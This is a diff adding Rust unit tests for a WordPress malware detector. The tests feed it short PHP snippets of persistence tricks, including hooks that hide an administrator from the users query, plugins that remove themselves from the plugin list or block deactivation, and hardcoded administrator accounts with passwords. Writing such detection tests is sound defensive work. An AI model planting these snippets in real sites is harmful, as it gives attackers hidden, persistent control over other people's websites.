@@ -1,0 +1,77 @@
+//! Tests of [`super`]: WordPress persistence in minimal shapes, and the plugins and tests that
+//! look like it without hiding anything.
+
+use crate::detect::{Danger, Why};
+use crate::php::tokenize;
+
+fn found(src: &str) -> Vec<(Why, Danger)> {
+    let t = tokenize(src.as_bytes(), usize::MAX);
+    super::analyze(src.as_bytes(), &t).into_iter().map(|s| (s.why, s.danger)).collect()
+}
+
+#[test]
+fn an_administrator_left_out_of_the_users_query_is_hidden() {
+    let by_id = r#"<?php add_action('pre_user_query', function ($q) {
+        global $wpdb; $id = get_option('_support_uid');
+        if ($id) { $q->query_where .= " AND {$wpdb->users}.ID != " . intval($id); } });"#;
+    assert_eq!(found(by_id), [(Why::HiddenAdministrator, Danger::High)]);
+    let by_login = r#"<?php add_action('pre_user_query', 'hide_it');
+        function hide_it($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login <> 'helper'"; }"#;
+    assert_eq!(found(by_login), [(Why::HiddenAdministrator, Danger::High)]);
+    let not_in = r#"<?php add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID NOT IN (' . get_option('x') . ')'; });"#;
+    assert_eq!(found(not_in), [(Why::HiddenAdministrator, Danger::High)]);
+}
+
+#[test]
+fn a_users_query_hook_that_sorts_or_filters_by_role_hides_no_one() {
+    // Membership plugins change the users query for their own columns.
+    let order = r#"<?php add_action('pre_user_query', function ($q) { $q->query_orderby = 'ORDER BY user_registered DESC'; });"#;
+    assert_eq!(found(order), []);
+    let paid = r#"<?php add_action('pre_user_query', function ($q) { global $wpdb;
+        $q->query_where .= " AND {$wpdb->usermeta}.meta_value != 'expired'"; });"#;
+    assert_eq!(found(paid), []);
+    // An `ID !=` elsewhere in a file without the hook.
+    assert_eq!(found(r#"<?php $wpdb->get_results("SELECT * FROM t WHERE ID != 1");"#), []);
+}
+
+#[test]
+fn a_plugin_that_hides_from_the_plugin_list_is_malware_posing_as_a_plugin() {
+    let hide = r#"<?php /* Plugin Name: Site Kit Helper */
+        add_filter('all_plugins', function ($plugins) { unset($plugins[plugin_basename(__FILE__)]); return $plugins; });"#;
+    assert_eq!(found(hide), [(Why::HidesItsPlugin, Danger::Medium)]);
+    let and_stays = format!(
+        "{hide}\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($a) {{ unset($a['deactivate']); return $a; }});"
+    );
+    assert_eq!(found(&and_stays), [(Why::HidesItsPlugin, Danger::High)]);
+    let phones_home = format!("{hide}\n$r = wp_remote_get('https://upd.example.net/check');");
+    assert_eq!(found(&phones_home), [(Why::HidesItsPlugin, Danger::High)]);
+}
+
+#[test]
+fn an_administrator_with_a_written_password_counts_only_in_a_plugin_that_hides() {
+    let make = r#"<?php add_action('init', function () {
+        if (!username_exists('wpcore')) { wp_insert_user(array('user_login' => 'wpcore', 'user_pass' => 'Xk29!pq', 'role' => 'administrator')); } });"#;
+    // A test suite's or an installer's fixture makes one too.
+    assert_eq!(found(make), []);
+    let hiding = format!(
+        "{make}\nadd_filter('plugin_action_links_' . plugin_basename(__FILE__), function ($a) {{ unset($a['deactivate']); return $a; }});"
+    );
+    assert_eq!(found(&hiding), [(Why::HiddenAdministrator, Danger::High)]);
+    let created = r#"<?php wp_create_user('maint', 'S3cret!x', 'm@example.net');
+        add_filter('all_plugins', function ($p) { unset($p[plugin_basename(__FILE__)]); return $p; });
+        (new WP_User(username_exists('maint')))->set_role('administrator');"#;
+    assert_eq!(found(created), [(Why::HiddenAdministrator, Danger::High), (Why::HidesItsPlugin, Danger::High)]);
+}
+
+#[test]
+fn white_label_plugins_that_hide_other_plugins_are_not_reported() {
+    // An agency's white-label setting hides the plugins the owner picked, not itself.
+    let other = r#"<?php add_filter('all_plugins', function ($plugins) {
+        foreach (get_option('wl_hidden', array()) as $p) { unset($plugins[$p]); } return $plugins; });"#;
+    assert_eq!(found(other), []);
+    // A plugin that rewrites its own description in the list, and unsets other things.
+    let own_text = r#"<?php add_filter('all_plugins', array('Spam_Admin', 'describe'));
+        add_filter('plugin_action_links_' . plugin_basename(__FILE__), array('Spam_Admin', 'settings_link'));
+        if ($file == plugin_basename(__FILE__)) { $x = 1; } unset(self::$notices[$k]); unset($links['settings']);"#;
+    assert_eq!(found(own_text), []);
+}
